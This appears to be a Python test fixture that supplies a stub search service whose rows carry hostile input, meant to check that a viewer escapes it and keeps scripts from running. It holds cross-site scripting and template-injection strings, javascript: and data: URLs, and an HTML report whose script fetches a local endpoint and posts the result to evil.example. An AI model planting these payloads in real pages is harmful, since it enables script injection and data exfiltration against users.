"""Rows that no list should hold, and a service that answers with them."""

from schemas.about import About
from schemas.index_card import IndexCard
from schemas.query import Answer, Hit
from schemas.space import Space

SPACE = Space(
    encoder="any",
    weights_sha256="",
    library="any",
    preprocessing="none",
    precision="fp32",
    batch_rows=1,
    dims=2,
)

HOSTILE = "\"><img src=x onerror=alert(1)><script>alert(2)</script>${alert(3)}{{constructor}}`'&lt;\u202e"


def make_about():
    """Return a dataset of one column."""
    card = IndexCard(
        column="clip_image",
        space=SPACE,
        factory=HOSTILE,
        rows=1,
        bytes=1,
        build_s=1,
        recall_at={"clip_image": {10: 1.0}},
        recall_queries={"clip_image": 1},
        recall_wanted=0.9,
        sha256="",
    )
    return About(
        name=HOSTILE,
        set="main",
        version=1,
        versions=(),
        columns={"clip_image": card},
        translators=(),
        sources=(),
    )


def make_answer():
    """Return one row for every address that a browser must not follow, and one that it may."""
    urls = (
        "javascript:alert(4)",
        "data:text/html,<script>alert(5)</script>",
        "//x.example",
        "https://u:p@x.example",
    )
    rows = [
        Hit(
            key=HOSTILE,
            score=0.5,
            caption=HOSTILE,
            url=url,
            source=HOSTILE,
            kind=kind,
            licence=HOSTILE,
            page_url=None,
            attribution=HOSTILE,
        )
        for url in (*urls, "https://x.example/'\"><b>")
        for kind in ("image", "clip", "text")
    ]
    return Answer(version=1, column="clip_image", hits=tuple(rows))


class Rows:
    """A service whose rows no list should hold."""

    async def describe(self):
        return make_about()

    async def answer(self, query):
        return make_answer()


# Of somebody else's root: it would run, ask the service, tell another server, and lead away.
HOSTILE_REPORT = """<!doctype html><title>miniature</title>
<meta http-equiv="refresh" content="0;url=/v1/about?refreshed">
<style>h1 { color: rgb(1, 2, 3) } body { background: url(/v1/media/0?style) }</style>
<h1>The report</h1>
<img id="inline" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7">
<img src="/v1/media/0?image" onerror="document.title = 'SCRIPT RAN'">
<iframe src="/v1/about?frame"></iframe><object data="/v1/about?object"></object>
<link rel="stylesheet" href="/v1/about?sheet">
<form id="form" action="/v1/lookup?form" method="post"><button autofocus>go</button></form>
<script src="/v1/about?script"></script>
<script>
document.title = 'SCRIPT RAN';
fetch('/v1/about?fetch').then((told) => fetch('https://evil.example/', {method: 'POST', body: told.url}));
document.getElementById('form').submit();
window.open('/v1/about?opened');
</script>
<svg onload="document.title = 'SCRIPT RAN'"></svg>
<a href="javascript:document.title = 'SCRIPT RAN'">a link</a>
"""
